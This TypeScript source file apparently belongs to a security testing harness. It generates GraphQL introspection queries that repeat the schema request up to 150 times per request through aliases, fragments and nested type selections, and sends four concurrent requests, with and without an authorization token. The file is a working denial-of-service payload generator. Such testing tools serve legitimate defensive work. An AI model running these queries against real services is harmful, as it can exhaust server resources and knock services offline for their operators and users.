import { getIntrospectionQuery } from 'graphql';
import type { Attack, Random, Variant } from './attack.ts';
import { askGraphql, ENCODINGS, type Encoding } from './graphql-client.ts';

const FULL = getIntrospectionQuery()
  .replace(/^[^{]*\{\s*__schema/, '')
  .replace(/\}\s*(fragment)/, '$1');
const [WHOLE_SCHEMA = '', FRAGMENTS = ''] = [
  FULL.slice(0, FULL.indexOf('fragment')),
  FULL.slice(FULL.indexOf('fragment')),
];

/** Types, their fields, the types of those, and so on. */
const spiral = (turns: number): string =>
  turns === 0
    ? 'name description'
    : `fields { name type { ofType { ${spiral(turns - 1)} } ${spiral(turns - 1)} } }`;

/** Documents in which the schema is asked for `times` times, one way or another. */
const DOCUMENTS: Readonly<Record<string, (times: number) => string>> = {
  aliases: (times) => `{ ${numbered(times, (n) => `a${n}: __schema ${WHOLE_SCHEMA}`)} } ${FRAGMENTS}`,
  'aliases of short selections': (times) =>
    `{ ${numbered(times, (n) => `a${n}: __schema { types { name fields { name description type { name } } } }`)} }`,
  'aliases in a fragment': (times) =>
    `{ ...Q } fragment Q on Query { ${numbered(times, (n) => `a${n}: __schema { ...S }`)} }
     fragment S on __Schema { types { name fields { name args { name type { name } } } } }`,
  'aliases below __schema': (times) =>
    `{ __schema { ${numbered(times, (n) => `a${n}: types { name description fields { name description } }`)} } }`,
  'types by name': (times) =>
    `{ ${numbered(times, (n) => `a${n}: __type(name: "Line") { name fields { name type { name fields { name } } } }`)} }`,
  'types of types': (times) => `{ __schema { types { ${spiral(1 + (times % 4))} } } }`,
  'several operations': (times) =>
    `query Q { __typename ...F } fragment F on Query { ${numbered(times, (n) => `a${n}: __schema { types { name } }`)} }`,
  'together with data': (times) =>
    `{ advertisers(first: 1) { totalCount } ${numbered(times, (n) => `a${n}: __schema { types { ...T } }`)} }
     fragment T on __Type { name fields { name type { name } } }`,
};

const CONCURRENT = 4;

interface Shape {
  readonly document: string;
  readonly times: number;
  readonly encoding: Encoding;
  readonly withToken: boolean;
}

/** Schemas asked for again and again in one request, by four requests at once. */
export function introspectionAttack(options: {
  name: string;
  settings: Readonly<Record<string, string>>;
}): Attack {
  return {
    point: 'A3',
    ...options,
    seconds: 15,
    *variants(random) {
      const withToken = Object.keys(options.settings).length === 0;
      for (const document of Object.keys(DOCUMENTS))
        yield variant({ document, times: 100, encoding: 'POST', withToken });
      while (true) yield variant(someShape(random, withToken));
    },
  };
}

const someShape = (random: Random, withToken: boolean): Shape => ({
  document: random.pick(Object.keys(DOCUMENTS)),
  times: 1 + random.integer(150),
  encoding: random.pick(ENCODINGS),
  withToken,
});

function variant({ document, times, encoding, withToken }: Shape): Variant {
  const query = DOCUMENTS[document]?.(times) ?? '';
  const headers: Record<string, string> = withToken ? {} : { authorization: '' };
  return {
    name: `${document}, ${times} times, by ${encoding}, ${withToken ? 'with' : 'without'} a token`,
    run: async (target) => {
      await Promise.all(
        Array.from({ length: CONCURRENT }, () => askGraphql(target, { query, encoding, headers })),
      );
    },
  };
}

const numbered = (times: number, text: (n: number) => string): string =>
  Array.from({ length: times }, (_, n) => text(n)).join(' ');
